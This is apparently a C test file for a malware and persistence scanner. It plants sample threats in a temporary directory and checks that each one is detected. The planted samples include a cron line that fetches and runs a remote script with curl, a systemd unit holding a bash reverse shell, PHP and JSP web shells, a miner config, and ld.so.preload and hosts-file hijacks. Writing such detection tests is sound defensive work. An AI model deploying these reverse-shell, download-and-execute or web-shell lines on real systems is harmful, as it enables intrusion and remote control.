/*
 * Threat scan over a planted directory tree: every kind of threat is found
 * where it was planted (EICAR, miner config, web shells, reverse shell in a
 * unit, IOC in cron, hosts hijack, ld.so.preload, unowned SUID, executable
 * in /tmp, hash list hit, forced ssh command, EICAR inside zip/jar/tar.gz/gz
 * and nested archives, a string across a block boundary, MAL- package), a
 * limit hit is reported as scan_limit, and a clean tree yields nothing.
 * The report is the same whatever the number of worker threads. Rule
 * scopes (meta scope, max_filesize) limit a rule file to the files they
 * name; an unknown scope is a warning and the rule applies everywhere.
 * apt indexes whose SHA-256 matches their Release file are not YARA-scanned
 * (also when read in blocks); one that does not match is.
 */
#include "harness.h"
#include "fscompare.h"

#include <awp/threats.h>
#include <awp/vulndb.h>

#include <stdlib.h>
#include <string.h>

#define EICAR "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

static const awp_threat *find(const awp_threat_report *r, const char *rule, const char *path)
{
	for (size_t i = 0; i < awp_threat_count(r); i++) {
		const awp_threat *t = awp_threat_get(r, i);
		if (!strcmp(t->rule, rule) && !strcmp(t->path, path))
			return t;
	}
	return NULL;
}

static void dump(const awp_threat_report *r)
{
	for (size_t i = 0; i < awp_threat_count(r); i++) {
		const awp_threat *t = awp_threat_get(r, i);
		fprintf(stderr, "  %s %s %s:%lu %s\n", awp_threat_kind_name(t->kind), t->rule, t->path, t->line, t->evidence);
	}
	for (size_t i = 0; i < awp_threat_warning_count(r); i++)
		fprintf(stderr, "  warning: %s\n", awp_threat_warning(r, i));
}

#define EXPECT(r, rule_, path_, kind_)                                                                                 \
	do {                                                                                                           \
		const awp_threat *t_ = find(r, rule_, path_);                                                          \
		CHECK_MSG(t_ != NULL, rule_ " at " path_);                                                             \
		if (t_)                                                                                                \
			CHECK_EQ_STR(awp_threat_kind_name(t_->kind), kind_);                                           \
	} while (0)

static void put(const char *dir, const char *rel, const char *text)
{
	char p[700];
	snprintf(p, sizeof p, "%s/%s", dir, rel);
	FILE *f = fopen(p, "w");
	CHECK(f != NULL);
	if (f) {
		fputs(text, f);
		fclose(f);
	}
}

static void plant(const char *d)
{
	CHECK(test_sh("cd %s && mkdir -p etc/cron.d etc/systemd/system tmp usr/local/bin root/.ssh var/www/html opt "
		      "srv/pk srv/app/node_modules/evil-pkg data", d) == 0);
	put(d, "tmp/eicar.com", EICAR);
	put(d, "srv/pk/eicar.com", EICAR);
	int rc = test_sh(
		"set -e; cd %s\n"
		"printf 'ID=debian\\nVERSION_ID=12\\n' > etc/os-release\n"
		"printf 'SHELL=/bin/sh\\n*/5 * * * * root curl -fsSL http://203.0.113.77/u.sh | sh\\n' > etc/cron.d/job\n"
		"printf '127.0.0.1 localhost\\n198.51.100.23 github.com\\n0.0.0.0 ads.google.com\\n' > etc/hosts\n"
		"printf '/usr/lib/libhide.so\\n' > etc/ld.so.preload\n"
		"printf '#!/bin/sh\\necho rooted\\n' > usr/local/bin/rootme; chmod 4755 usr/local/bin/rootme\n"
		"printf '#!/bin/sh\\necho bad-script-body\\n' > tmp/x.sh; chmod 755 tmp/x.sh\n"
		"sha256sum tmp/x.sh | cut -d' ' -f1 | sed 's/$/ bad-script/' > ../hashes.txt\n"
		"printf 'command=\"/usr/bin/backup\",no-pty ssh-ed25519 AAAAC3Nza test@x\\nssh-ed25519 AAAAC3Nzb plain@x\\n' > root/.ssh/authorized_keys\n"
		"printf '[Service]\\nExecStart=/bin/bash -c \"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\"\\n' > etc/systemd/system/evil.service\n"
		"printf '<?php @eval(base64_decode($_POST[\"c\"])); ?>\\n' > var/www/html/s.php\n"
		"printf '<%%%% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %%%%>\\n' > var/www/a.jsp\n"
		"printf '{\"donate-level\": 1, \"pools\": [{\"url\": \"x:3333\"}]}\\n' > opt/config.json\n"
		"(cd srv/pk && python3 -c 'import zipfile,sys; z=zipfile.ZipFile(\"../app.jar\",\"w\",zipfile.ZIP_DEFLATED); z.write(\"eicar.com\"); z.close()')\n"
		"(cd srv && python3 -c 'import zipfile; z=zipfile.ZipFile(\"outer.zip\",\"w\"); z.write(\"app.jar\",\"inner.jar\"); z.close()')\n"
		"(cd srv && mkdir -p x && cp pk/eicar.com x/ && tar czf b.tar.gz x && rm -rf x)\n"
		"(cd srv && cp pk/eicar.com e.txt && gzip e.txt && rm -rf pk)\n"
		"(cd srv && mkdir -p many && for i in 1 2 3 4 5; do echo $i > many/f$i; done && python3 -c 'import zipfile,os; z=zipfile.ZipFile(\"many.zip\",\"w\"); [z.write(\"many/\"+f) for f in sorted(os.listdir(\"many\"))]; z.close()' && rm -rf many)\n"
		"printf '{\"name\":\"evil-pkg\",\"version\":\"1.0.2\"}' > srv/app/node_modules/evil-pkg/package.json\n"
		"head -c 65531 /dev/zero > data/big.bin; printf 'block-edge-marker-77' >> data/big.bin; head -c 200000 /dev/zero >> data/big.bin\n",
		d);
	CHECK_EQ_INT(rc, 0);
}

static int make_vulndb(const char *dir, char *db, size_t cap)
{
	char json[600];
	snprintf(json, sizeof json, "%s/mal.json", dir);
	snprintf(db, cap, "%s/vuln.db", dir);
	FILE *f = fopen(json, "w");
	if (!f)
		return -1;
	fputs("{\"id\":\"MAL-2099-0001\",\"modified\":\"2024-01-01T00:00:00Z\",\"summary\":\"Malicious code in evil-pkg (npm)\","
	      "\"affected\":[{\"package\":{\"ecosystem\":\"npm\",\"name\":\"evil-pkg\"},"
	      "\"ranges\":[{\"type\":\"SEMVER\",\"events\":[{\"introduced\":\"0\"}]}]}]}\n",
	      f);
	fclose(f);
	const char *inputs[] = {json};
	awp_vulndb_import_stats st;
	return awp_vulndb_import(db, inputs, 1, NULL, NULL, &st);
}

/* A database of only the rule files under `rdir` (no built-in rules or
 * lists, no cache), and a scan of the host directory `root` with it. */
static awp_threat_db *load_rule_dir(const char *rdir)
{
	const char *rp[] = {rdir};
	awp_threat_db_options o = AWP_THREAT_DB_OPTIONS_INIT;
	o.no_default_rules = 1;
	o.no_default_lists = 1;
	o.rule_paths = rp;
	o.rule_path_count = 1;
	o.cache_dir = "";
	awp_threat_db *db = NULL;
	CHECK_OK(awp_threat_db_load(&db, &o));
	return db;
}

static awp_threat_report *scan_dir(const awp_threat_db *db, const char *root)
{
	awp_fs *fs = NULL;
	awp_threat_report *r = NULL;
	CHECK_OK(awp_fs_open_dir(&fs, root));
	awp_threat_scan_options so = AWP_THREAT_SCAN_OPTIONS_INIT;
	so.vulndb_path = "";
	if (fs)
		CHECK_OK(awp_threats_scan(&r, fs, db, &so));
	awp_fs_free(fs);
	return r;
}

/* Rule scopes: each rule file below marks every file it applies to. */
static void test_scopes(const char *dir)
{
	char rdir[600], sdir[600];
	snprintf(rdir, sizeof rdir, "%s/scoped-rules", dir);
	snprintf(sdir, sizeof sdir, "%s/scoped", dir);
	int rc = test_sh(
		"set -e; mkdir -p %s %s/opt %s/srv/site\n"
		"cd %s\n"
		"printf 'rule S_Elf { meta: scope = \"elf\" strings: $a = \"scope-marker\" condition: $a }\\n' > elf.yar\n"
		"printf 'rule S_Web { meta: scope = \"web\" strings: $a = \"scope-marker\" condition: $a }\\n' > web.yar\n"
		"printf 'rule S_Small { meta: max_filesize = 100 strings: $a = \"scope-marker\" condition: $a }\\n' > small.yar\n"
		"printf 'rule S_Bogus { meta: scope = \"bogus\" strings: $a = \"scope-marker\" condition: $a }\\n' > bogus.yar\n"
		"cd %s\n"
		"printf 'text scope-marker\\n' > opt/a.txt\n"
		"printf '\\177ELF scope-marker\\n' > opt/b.bin\n"
		"printf 'text scope-marker\\n' > srv/site/x.txt\n"
		"printf '<?php echo 1; // scope-marker\\n' > opt/page\n"
		"(printf 'scope-marker'; head -c 200 /dev/zero) > opt/big.txt\n",
		rdir, sdir, sdir, rdir, sdir);
	CHECK_EQ_INT(rc, 0);
	awp_threat_db *db = load_rule_dir(rdir);
	if (!db)
		return;
	CHECK_EQ_INT(awp_threat_db_warning_count(db), 1);
	CHECK(awp_threat_db_warning(db, 0) && strstr(awp_threat_db_warning(db, 0), "unknown scope \"bogus\""));
	awp_threat_report *r = scan_dir(db, sdir);
	EXPECT(r, "S_Small", "/opt/a.txt", "malware");
	EXPECT(r, "S_Bogus", "/opt/a.txt", "malware");
	EXPECT(r, "S_Elf", "/opt/b.bin", "malware");
	EXPECT(r, "S_Small", "/opt/b.bin", "malware");
	EXPECT(r, "S_Bogus", "/opt/b.bin", "malware");
	EXPECT(r, "S_Web", "/srv/site/x.txt", "malware");
	EXPECT(r, "S_Small", "/srv/site/x.txt", "malware");
	EXPECT(r, "S_Bogus", "/srv/site/x.txt", "malware");
	EXPECT(r, "S_Web", "/opt/page", "malware"); /* PHP opening tag */
	EXPECT(r, "S_Small", "/opt/page", "malware");
	EXPECT(r, "S_Bogus", "/opt/page", "malware");
	EXPECT(r, "S_Bogus", "/opt/big.txt", "malware");
	CHECK_EQ_INT(awp_threat_count(r), 12);
	if (awp_threat_count(r) != 12)
		dump(r);
	awp_threat_report_free(r);
	awp_threat_db_free(db);
}

/* The literal prefilter (threats/prefilter.c): rules that declare
 * needs_strings are skipped on files without any of their strings, with
 * every literal form encoded right (nocase, wide, hex); a rule without the
 * declaration, or with a regex string, keeps YARA on every file. */
static void test_prefilter(const char *dir)
{
	char rdir[600], sdir[600];
	snprintf(rdir, sizeof rdir, "%s/pf-rules", dir);
	snprintf(sdir, sizeof sdir, "%s/pf", dir);
	int rc = test_sh(
		"set -e; mkdir -p %s %s/opt\n"
		"cd %s\n"
		"printf 'rule P_Nocase { meta: needs_strings = true strings: $a = \"MiXeD-Marker\" nocase condition: $a }\\n' > a.yar\n"
		"printf 'rule P_Wide { meta: needs_strings = true strings: $a = \"wide-marker\" wide condition: $a }\\n' > b.yar\n"
		"printf 'rule P_Hex { meta: needs_strings = true strings: $a = { 41 42 43 00 44 45 46 } condition: $a }\\n' > c.yar\n"
		"printf 'rule P_NoStrings { condition: filesize == 17 }\\n' > d.yar\n"
		"cd %s\n"
		"printf 'xx mixed-MARKER yy\\n' > opt/nocase.txt\n"
		"printf 'w\\000i\\000d\\000e\\000-\\000m\\000a\\000r\\000k\\000e\\000r\\000' > opt/wide.bin\n"
		"printf 'zzABC\\000DEFzz' > opt/hex.bin\n"
		"printf 'nothing to see...' > opt/seventeen.txt\n"
		"printf 'plain text without any marker\\n' > opt/clean.txt\n",
		rdir, sdir, rdir, sdir);
	CHECK_EQ_INT(rc, 0);
	for (int with_nostrings = 1; with_nostrings >= 0; with_nostrings--) {
		if (!with_nostrings) /* now every rule declares needs_strings: the set is prefiltered */
			CHECK(test_sh("rm %s/d.yar", rdir) == 0);
		awp_threat_db *db = load_rule_dir(rdir);
		if (!db)
			return;
		awp_threat_report *r = scan_dir(db, sdir);
		EXPECT(r, "P_Nocase", "/opt/nocase.txt", "malware");
		EXPECT(r, "P_Wide", "/opt/wide.bin", "malware");
		EXPECT(r, "P_Hex", "/opt/hex.bin", "malware");
		if (with_nostrings)
			EXPECT(r, "P_NoStrings", "/opt/seventeen.txt", "malware");
		CHECK_EQ_INT(awp_threat_count(r), 3 + with_nostrings);
		if (awp_threat_count(r) != (size_t)(3 + with_nostrings))
			dump(r);
		awp_threat_report_free(r);
		awp_threat_db_free(db);
	}
}

static void test_apt(const char *dir)
{
	char tree[600], rules[600];
	snprintf(tree, sizeof tree, "%s/apt", dir);
	snprintf(rules, sizeof rules, "%s/apt.yar", dir);
	CHECK(test_sh("mkdir -p %s/var/lib/apt/lists && printf 'rule Apt_Marker { strings: $a = \"apt-marker-5\" "
		      "condition: $a }\\n' > %s", tree, rules) == 0);
	char lists[700];
	snprintf(lists, sizeof lists, "%s/var/lib/apt/lists", tree);
	put(lists, "h_dists_s_main_Packages", EICAR);
	put(lists, "h_dists_s_main_Other", EICAR);
	int rc = test_sh(
		"set -e; cd %s\n"
		"(head -c 100000 /dev/zero; printf apt-marker-5) > h_dists_s_main_Big\n"
		"cp h_dists_s_main_Big h_dists_s_main_Big2\n"
		"line() { echo \" $(sha256sum $1 | cut -d' ' -f1) $(stat -c %%s $1) $2\"; }\n"
		"{ echo 'Origin: Test'; echo 'MD5Sum:'; echo ' 0 0 main/x'; echo 'SHA256:';\n"
		"  line h_dists_s_main_Packages main/Packages; line h_dists_s_main_Big main/Big;\n"
		"  echo ' 0000000000000000000000000000000000000000000000000000000000000000 68 main/Other';\n"
		"  echo \" 0000000000000000000000000000000000000000000000000000000000000000 $(stat -c %%s h_dists_s_main_Big2) main/Big2\"; \n"
		"} > h_dists_s_InRelease\n",
		lists);
	CHECK_EQ_INT(rc, 0);
	const char *rp[] = {rules};
	awp_threat_db_options o = AWP_THREAT_DB_OPTIONS_INIT;
	o.no_default_lists = 1;
	o.rule_paths = rp;
	o.rule_path_count = 1;
	o.cache_dir = "";
	awp_threat_db *db = NULL;
	CHECK_OK(awp_threat_db_load(&db, &o));
	awp_fs *fs = NULL;
	CHECK_OK(awp_fs_open_dir(&fs, tree));
	if (!db || !fs)
		return;
	awp_threat_scan_options so = AWP_THREAT_SCAN_OPTIONS_INIT;
	so.vulndb_path = "";
	so.block_size = 65536; /* the Big files are read in blocks */
	awp_threat_report *r = NULL;
	CHECK_OK(awp_threats_scan(&r, fs, db, &so));
	EXPECT(r, "EICAR_Test_File", "/var/lib/apt/lists/h_dists_s_main_Other", "malware");
	EXPECT(r, "Apt_Marker", "/var/lib/apt/lists/h_dists_s_main_Big2", "malware");
	CHECK_EQ_INT(awp_threat_count(r), 2);
	if (awp_threat_count(r) != 2)
		dump(r);
	CHECK_EQ_INT(awp_threat_report_stats(r)->verified_skipped, 2);
	awp_threat_report_free(r);
	awp_fs_free(fs);
	awp_threat_db_free(db);
}

void test_main(void)
{
	char *dir = test_tmpdir();
	char tree[512], hashes[600], iocs[600], rules[600], db[600];
	snprintf(tree, sizeof tree, "%s/root", dir);
	snprintf(hashes, sizeof hashes, "%s/hashes.txt", dir);
	snprintf(iocs, sizeof iocs, "%s/iocs.txt", dir);
	snprintf(rules, sizeof rules, "%s/edge.yar", dir);
	CHECK(test_sh("mkdir -p %s && printf '203.0.113.77 test-c2\\n' > %s && "
		      "printf 'rule Edge_Marker { strings: $a = \"block-edge-marker-77\" condition: $a }\\n' > %s",
		      tree, iocs, rules) == 0);
	plant(tree);
	CHECK_OK(make_vulndb(dir, db, sizeof db));

	const char *hp[] = {hashes}, *ip[] = {iocs}, *rp[] = {rules};
	awp_threat_db_options o = AWP_THREAT_DB_OPTIONS_INIT;
	o.hash_files = hp;
	o.hash_file_count = 1;
	o.ioc_files = ip;
	o.ioc_file_count = 1;
	o.rule_paths = rp;
	o.rule_path_count = 1;
	o.cache_dir = "";
	awp_threat_db *tdb = NULL;
	CHECK_OK(awp_threat_db_load(&tdb, &o));
	CHECK_EQ_INT(awp_threat_db_warning_count(tdb), 0);
	awp_fs *fs = NULL;
	CHECK_OK(awp_fs_open_dir(&fs, tree));
	awp_threat_scan_options so = AWP_THREAT_SCAN_OPTIONS_INIT;
	so.vulndb_path = db;
	so.block_size = 65536; /* the marker straddles the first block boundary */
	so.archive_entries = 4;
	awp_threat_report *r = NULL;
	CHECK_OK(awp_threats_scan(&r, fs, tdb, &so));
	if (!r)
		return;
	EXPECT(r, "EICAR_Test_File", "/tmp/eicar.com", "malware");
	EXPECT(r, "203.0.113.77", "/etc/cron.d/job", "ioc");
	const awp_threat *t = find(r, "203.0.113.77", "/etc/cron.d/job");
	if (t) {
		CHECK_EQ_INT(t->line, 2);
		CHECK(strstr(t->evidence, "curl -fsSL http://203.0.113.77/u.sh") != NULL);
	}
	EXPECT(r, "Persistence_Download_And_Execute", "/etc/cron.d/job", "persistence");
	EXPECT(r, "hosts-hijack", "/etc/hosts", "persistence");
	t = find(r, "hosts-hijack", "/etc/hosts");
	if (t)
		CHECK_EQ_INT(t->line, 2);
	EXPECT(r, "ld-so-preload", "/etc/ld.so.preload", "persistence");
	EXPECT(r, "suid-unowned", "/usr/local/bin/rootme", "persistence");
	EXPECT(r, "exec-in-tmp", "/tmp/x.sh", "persistence");
	EXPECT(r, "bad-script", "/tmp/x.sh", "hash");
	EXPECT(r, "ssh-forced-command", "/root/.ssh/authorized_keys", "persistence");
	EXPECT(r, "Persistence_Reverse_Shell", "/etc/systemd/system/evil.service", "persistence");
	EXPECT(r, "Webshell_PHP_Eval_Request", "/var/www/html/s.php", "malware");
	EXPECT(r, "Webshell_JSP_Runtime_Exec", "/var/www/a.jsp", "malware");
	EXPECT(r, "Cryptominer_XMRig_Config", "/opt/config.json", "malware");
	EXPECT(r, "EICAR_Test_File", "/srv/app.jar!/eicar.com", "malware");
	EXPECT(r, "EICAR_Test_File", "/srv/outer.zip!/inner.jar!/eicar.com", "malware");
	EXPECT(r, "EICAR_Test_File", "/srv/b.tar.gz!/x/eicar.com", "malware");
	EXPECT(r, "EICAR_Test_File", "/srv/e.txt.gz!/e.txt", "malware");
	EXPECT(r, "archive-entries", "/srv/many.zip", "scan_limit");
	EXPECT(r, "Edge_Marker", "/data/big.bin", "malware");
	EXPECT(r, "MAL-2099-0001", "/srv/app/node_modules/evil-pkg/package.json", "malicious_package");
	/* Blocking entries in hosts and plain keys are not threats. */
	CHECK(find(r, "hosts-hijack", "/etc/hosts") == NULL || find(r, "hosts-hijack", "/etc/hosts")->line == 2);
	size_t expected = 20;
	CHECK_EQ_INT(awp_threat_count(r), expected);
	if (awp_threat_count(r) != expected)
		dump(r);
	char *json = NULL;
	size_t len = 0;
	CHECK_OK(awp_threat_report_json(&json, &len, r, tree));
	CHECK(json && strstr(json, "\"kind\": \"malicious_package\"") != NULL);
	awp_threat_report_free(r);
	/* One thread or several: the same report, byte for byte. */
	for (unsigned th = 1; th <= 4; th += 3) {
		so.threads = th;
		r = NULL;
		CHECK_OK(awp_threats_scan(&r, fs, tdb, &so));
		char *j2 = NULL;
		size_t l2 = 0;
		CHECK_OK(awp_threat_report_json(&j2, &l2, r, tree));
		CHECK_MSG(json && j2 && !strcmp(json, j2), th == 1 ? "1 thread: same JSON" : "4 threads: same JSON");
		free(j2);
		awp_threat_report_free(r);
	}
	so.threads = 0;
	free(json);

	/* Archives off: the archive threats disappear, nothing else changes. */
	so.no_archives = 1;
	r = NULL;
	CHECK_OK(awp_threats_scan(&r, fs, tdb, &so));
	CHECK_EQ_INT(awp_threat_count(r), expected - 5);
	awp_threat_report_free(r);
	awp_fs_free(fs);

	/* A clean tree: nothing. */
	CHECK(test_sh("mkdir -p %s/clean/etc %s/clean/usr/bin && printf '127.0.0.1 localhost\\n' > %s/clean/etc/hosts && "
		      "printf '#!/bin/sh\\necho hi\\n' > %s/clean/usr/bin/hi && chmod 755 %s/clean/usr/bin/hi",
		      dir, dir, dir, dir, dir) == 0);
	char clean[600];
	snprintf(clean, sizeof clean, "%s/clean", dir);
	CHECK_OK(awp_fs_open_dir(&fs, clean));
	so = (awp_threat_scan_options)AWP_THREAT_SCAN_OPTIONS_INIT;
	so.vulndb_path = "";
	r = NULL;
	CHECK_OK(awp_threats_scan(&r, fs, tdb, &so));
	CHECK_EQ_INT(awp_threat_count(r), 0);
	if (awp_threat_count(r))
		dump(r);
	awp_threat_report_free(r);
	awp_fs_free(fs);
	awp_threat_db_free(tdb);
	test_scopes(dir);
	test_prefilter(dir);
	test_apt(dir);
	test_rmtree(dir);
	free(dir);
}
